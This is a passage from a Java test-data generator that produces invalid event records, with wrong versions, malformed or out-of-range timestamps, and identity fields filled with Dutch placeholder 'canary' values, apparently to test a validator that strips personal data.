            }
            case 1 -> {
                m.put("v", 2);
                reason = Reason.UNKNOWN_VERSION;
            }
            default -> {
                m.put("ts", badTimestamp());
                reason = Reason.BAD_TIMESTAMP;
            }
        }
        return bad(target, Kind.IDENTITY_FIELDS, bytes(m), reason);
    }

    // ------------------------------------------------------------------ pieces

    private static List<String> identityFieldNames() {
        return LvdsJson.IDENTITY_FIELDS.stream().sorted().toList();
    }

    private String caseVariant(String name) {
        return switch (rnd.nextInt(3)) {
            case 0 -> name;
            case 1 -> name.toUpperCase(Locale.ROOT);
            default -> Character.toUpperCase(name.charAt(0)) + name.substring(1);
        };
    }

    private Object identityValue(String name) {
        return switch (name) {
            case "email", "e-mail", "mail" -> CANARIES.get(1);
            case "phone", "phone_number", "telephone", "tel", "mobile" -> CANARIES.get(2);
            case "handle", "screen_name", "screenname", "username", "user_name" -> CANARIES.get(3);
            case "lat", "latitude" -> 51.8881;
            case "lon", "longitude" -> 4.4872;
            case "geo", "coordinates" -> List.of(51.8881, 4.4872);
            case "bsn" -> 123456782L;
            case "user", "profile" -> Map.of("name", CANARIES.get(0), "email", CANARIES.get(1));
            default -> CANARIES.get(0) + " " + (rnd.nextInt(90) + 10);
        };
    }

    private String canaryText() {
        return switch (rnd.nextInt(4)) {
            case 0 -> CANARIES.get(0) + " zag rellen bij de Schammenkamp, mail " + CANARIES.get(1);
            case 1 -> "Bel " + CANARIES.get(2) + " over de explosie, groet " + CANARIES.get(0);
            case 2 -> CANARIES.get(3) + " vindt al die nieuwkomers maar niks " + CANARIES.get(4);
            default -> CANARIES.get(0) + " woont boven de bakker in de Tarwewijk";
        };
    }

    private String longText(int chars) {
        StringBuilder sb = new StringBuilder(chars + 64);
        while (sb.length() < chars) {
            sb.append(canaryText()).append(' ');
        }
        sb.setLength(chars);
        return sb.toString();
    }

    /** One token without spaces, starting with a canary word. */
    private String token(int chars) {
        StringBuilder sb = new StringBuilder(chars);
        sb.append("pimpelmees");
        while (sb.length() < chars) {
            sb.append((char) ('a' + rnd.nextInt(26)));
        }
        sb.setLength(chars);
        return sb.toString();
    }

    private long inRange() {
        return from + (long) (rnd.nextDouble() * (to - from));
    }

    private String farPast() {
        return switch (rnd.nextInt(4)) {
            case 0 -> "1970-01-01T00:00:00Z";
            case 1 -> "1999-12-31T23:59:59.999Z";
            case 2 -> "0001-01-01T00:00:00+01:00";
            default ->
                    iso(
                            Instant.parse("1000-01-01T00:00:00Z").toEpochMilli()
                                    + (long) (rnd.nextDouble() * 3.1e13));
        };
    }

    private String farFuture() {
        return switch (rnd.nextInt(4)) {
            case 0 -> "2100-01-01T00:00:00Z";
            case 1 -> "9999-12-31T23:59:59Z";
            case 2 -> "+999999999-12-31T23:59:59-18:00";
            default ->
                    iso(
                            Instant.parse("2100-01-01T00:00:00Z").toEpochMilli()
                                    + (long) (rnd.nextDouble() * 3e13));
        };
    }

    /** Inside the contract's range, but decades after any Kafka record time of today. */
    private String aheadOfRecordTime() {
        long start = Instant.parse("2090-01-01T00:00:00Z").toEpochMilli();
        long end = Instant.parse("2099-12-31T00:00:00Z").toEpochMilli();
        return iso(start + (long) (rnd.nextDouble() * (end - start)));
    }

    private String badTimestamp() {
        String inRange = iso(inRange());
        return switch (rnd.nextInt(9)) {
            case 0 -> "gisteren";
            case 1 -> "2024-13-45T25:61:00Z";
            case 2 -> inRange.replace('T', ' ').replace("Z", "");
            case 3 -> inRange.replace("Z", "");
            case 4 -> Long.toString(inRange() / 1000);
            case 5 -> "";
            case 6 -> "07-03-2024 18:00";
            case 7 -> inRange.replace("Z", "+25:00");
            default -> "2024-02-30T10:00:00Z";
        };
    }

    private static String iso(long epochMillis) {
        return LvdsJson.isoTime(epochMillis);
    }

    private static String quoted(String s) {
        try {
            return JSON.writeValueAsString(s);
        } catch (JsonProcessingException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] bytes(Map<String, Object> m) {
        try {
            return JSON.writeValueAsBytes(m);
        } catch (JsonProcessingException e) {
            throw new UncheckedIOException(e);
        }
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> readMap(byte[] json) {
        try {
            return JSON.readValue(json, LinkedHashMap.class);
        } catch (java.io.IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] splice(byte[] a, int at, byte[] insert) {
        byte[] out = new byte[a.length + insert.length];
        System.arraycopy(a, 0, out, 0, at);
        System.arraycopy(insert, 0, out, at, insert.length);
        System.arraycopy(a, at, out, at + insert.length, a.length - at);
        return out;
    }

    private static int indexOf(byte[] hay, byte[] needle) {
        outer:
        for (int i = 0; i + needle.length <= hay.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (hay[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return i;
        }
        throw new IllegalStateException("marker not found");
    }
}
